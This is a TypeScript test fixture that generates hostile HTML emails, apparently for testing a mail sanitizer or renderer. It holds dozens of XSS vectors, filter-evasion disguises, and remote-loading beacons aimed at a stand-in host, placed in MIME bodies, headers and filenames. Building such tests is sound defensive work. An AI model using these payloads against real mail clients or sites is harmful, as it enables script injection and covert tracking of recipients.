/**
 * Hostile HTML as mails carry it, of our own making. Every case that runs would call `ran(n)`, every one that loads would ask
 * BEACON/n; the number tells which it was. The table is small because attacks are combinations: a way in, times a way to
 * write it.
 */
export const beacon = "https://beacon.example";

const script = (n: number) => `ran(${n})`;
const address = (n: number) => `${beacon}/${n}`;

/** Elements and attributes that run a script. */
const running: ReadonlyArray<(n: number) => string> = [
  (n) => `<script>${script(n)}</script>`,
  (n) => `<script src="${address(n)}"></script>`,
  (n) => `<script type=module>${script(n)}</script>`,
  (n) => `<img src=x onerror="${script(n)}">`,
  (n) => `<img src=x onerror=${script(n)} //`,
  (n) => `<svg onload="${script(n)}">`,
  (n) => `<svg><script>${script(n)}</script></svg>`,
  (n) => `<svg><animate onbegin="${script(n)}" attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${script(n)}"><text y=20>click</text></a></svg>`,
  (n) => `<svg><set attributeName=href to="javascript:${script(n)}">`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.${script(n)}</script>"></foreignObject></svg>`,
  (n) => `<math><mtext><img src=x onerror="${script(n)}"></mtext></math>`,
  (n) => `<math><a href="javascript:${script(n)}">m</a></math>`,
  (n) => `<body onload="${script(n)}">`,
  (n) => `<body onpageshow="${script(n)}">`,
  (n) => `<iframe src="javascript:parent.${script(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${script(n)}</script>"></iframe>`,
  (n) => `<object data="javascript:${script(n)}"></object>`,
  (n) => `<embed src="javascript:${script(n)}">`,
  (n) => `<a href="javascript:${script(n)}" autofocus>open</a>`,
  (n) => `<a href=" &#x6A;avascript:${script(n)}">open</a>`,
  (n) => `<a href="java\tscript:${script(n)}">open</a>`,
  (n) => `<a href="data:text/html,<script>opener.${script(n)}</script>">open</a>`,
  (n) => `<a href="vbscript:${script(n)}">open</a>`,
  (n) => `<form action="javascript:${script(n)}"><input type=submit autofocus></form>`,
  (n) => `<button formaction="javascript:${script(n)}" form=f>go</button><form id=f></form>`,
  (n) => `<input autofocus onfocus="${script(n)}">`,
  (n) => `<select autofocus onfocus="${script(n)}"></select>`,
  (n) => `<textarea autofocus onfocus="${script(n)}"></textarea>`,
  (n) => `<details open ontoggle="${script(n)}"><summary>more</summary></details>`,
  (n) => `<dialog open onfocusin="${script(n)}" tabindex=0 autofocus>`,
  (n) => `<div popover id=p${n} onbeforetoggle="${script(n)}"></div><button popovertarget=p${n}>x</button>`,
  (n) => `<video autoplay onloadstart="${script(n)}" src=x></video>`,
  (n) => `<video><source onerror="${script(n)}"></video>`,
  (n) => `<audio src=x onerror="${script(n)}"></audio>`,
  (n) => `<marquee onstart="${script(n)}">x</marquee>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:${script(n)}">`,
  (n) => `<style onload="${script(n)}"></style>`,
  (n) => `<link rel=stylesheet href=x onerror="${script(n)}">`,
  (n) => `<div style="animation-name:x" onanimationstart="${script(n)}"></div><style>@keyframes x{}</style>`,
  (n) => `<template><script>${script(n)}</script></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${script(n)}>"></noscript>`,
  (n) => `<xmp><p title="</xmp><img src=x onerror=${script(n)}>"></xmp>`,
  (n) => `<title><p title="</title><img src=x onerror=${script(n)}>"></title>`,
  (n) => `<!--><img src=x onerror=${script(n)}>-->`,
  (n) => `<![CDATA[><img src=x onerror=${script(n)}>]]>`,
  (n) => `<?xml ?><img src=x onerror=${script(n)}>`,
  (n) => `</pre></div><img src=x onerror=${script(n)}>`,
  (n) => `"><img src=x onerror=${script(n)}>`,
  (n) => `{{constructor.constructor('${script(n)}')()}}`,
  (n) => `\${${script(n)}}`,
];

/** Elements and attributes that ask somebody outside. */
const loading: ReadonlyArray<(n: number) => string> = [
  (n) => `<img src="${address(n)}">`,
  (n) => `<img srcset="${address(n)} 1x, ${address(n)} 2x">`,
  (n) => `<picture><source srcset="${address(n)}"><img></picture>`,
  (n) => `<input type=image src="${address(n)}">`,
  (n) => `<body background="${address(n)}">`,
  (n) => `<table background="${address(n)}"><td background="${address(n)}">x</table>`,
  (n) => `<p style="background:url(${address(n)})">x</p>`,
  (n) => `<p style="background-image:image-set('${address(n)}' 1x)">x</p>`,
  (n) => `<p style="list-style:url(${address(n)});display:list-item">x</p>`,
  (n) => `<p style="cursor:url(${address(n)}),auto">x</p>`,
  (n) => `<style>@import "${address(n)}";</style>`,
  (n) => `<style>*{background:url(${address(n)})}</style>`,
  (n) => `<style>@font-face{font-family:f;src:url(${address(n)})}*{font-family:f}</style>`,
  (n) => `<style>p::before{content:url(${address(n)})}</style><p>x</p>`,
  (n) => `<link rel=stylesheet href="${address(n)}">`,
  (n) => `<link rel=preload as=image href="${address(n)}">`,
  (n) => `<link rel=prefetch href="${address(n)}">`,
  (n) => `<link rel=dns-prefetch href="${address(n)}"><link rel=preconnect href="${address(n)}">`,
  (n) => `<link rel=icon href="${address(n)}">`,
  (n) => `<link rel=manifest href="${address(n)}">`,
  (n) => `<base href="${address(n)}/"><img src=x>`,
  (n) => `<iframe src="${address(n)}"></iframe>`,
  (n) => `<frameset><frame src="${address(n)}"></frameset>`,
  (n) => `<object data="${address(n)}"></object>`,
  (n) => `<embed src="${address(n)}">`,
  (n) => `<applet codebase="${address(n)}" code=x></applet>`,
  (n) => `<video src="${address(n)}" autoplay></video>`,
  (n) => `<video poster="${address(n)}"></video>`,
  (n) => `<audio src="${address(n)}" autoplay></audio>`,
  (n) => `<video><track default src="${address(n)}"></video>`,
  (n) => `<svg><image href="${address(n)}"/></svg>`,
  (n) => `<svg><use href="${address(n)}#x"/></svg>`,
  (n) => `<svg><filter id=f><feImage href="${address(n)}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  (n) => `<svg><rect fill="url(${address(n)}#g)" width=9 height=9 /></svg>`,
  (n) => `<svg><style>@import url(${address(n)});</style></svg>`,
  (n) => `<math><mglyph src="${address(n)}"></mglyph></math>`,
  (n) => `<meta http-equiv=refresh content="0;url=${address(n)}">`,
  (n) => `<meta http-equiv=Content-Security-Policy content="report-uri ${address(n)}">`,
  (n) => `<form action="${address(n)}"><input autofocus></form>`,
  (n) => `<a href="${address(n)}" ping="${address(n)}">x</a>`,
  (n) => `<html manifest="${address(n)}">`,
  (n) => `<bgsound src="${address(n)}">`,
  (n) => `<img lowsrc="${address(n)}" dynsrc="${address(n)}">`,
  (n) => `<img src="\\\\beacon.example\\${n}">`,
  (n) => `<img src="//beacon.example/${n}">`,
];

/** Ways to write the same so that a filter that looks for it may not see it. */
const disguises: ReadonlyArray<(html: string) => string> = [
  (html) => html,
  // Upper case and a line break in every tag.
  (html) => html.replace(/<([a-z]+)([ >])/g, (_, tag, end) => `<${tag.toUpperCase()}${end === " " ? "\n" : end}`),
  // Inside a comment that ends early, after an attribute that was never closed.
  (html) => `<p title='"><!-- --!>${html}`,
];

export type HostileCase = { readonly n: number; readonly html: string };

/** All cases, numbered. */
export const hostileCases: readonly HostileCase[] = disguises
  .flatMap((disguise) => [...running, ...loading].map((write) => (n: number) => disguise(write(n))))
  .map((write, n) => ({ n, html: write(n) }));

const encodings: ReadonlyArray<readonly [name: string, encode: (text: string) => string]> = [
  ["8bit", (text) => text],
  ["base64", (text) => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\r\n")],
  ["quoted-printable", (text) => text.replace(/=/g, "=3D").replace(/\n/g, "=0A")],
];

/** Puts cases into one mail: in its HTML, its subject, its sender's name and the name of what is attached, each its own part. */
export function hostileMail(cases: readonly HostileCase[]): string {
  const inHeader = (text: string) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
  const all = cases.map(({ html }) => html).join(" ");
  const parts = cases.flatMap(({ n, html }) => {
    const [encoding, encode] = encodings[n % encodings.length] ?? ["8bit", (text: string) => text];
    const head = ["Content-Type: text/html; charset=utf-8", `Content-Transfer-Encoding: ${encoding}`];
    return ["--part", ...head, "", encode(html)];
  });
  return [
    `From: ${inHeader(all)} <sender@example.com>`,
    `Subject: ${inHeader(all)}`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="part"',
    "",
    ...parts,
    "--part",
    "Content-Type: text/html",
    `Content-Disposition: attachment; filename="${inHeader(all)}"`,
    "",
    all,
    "--part--",
    "",
  ].join("\r\n");
}
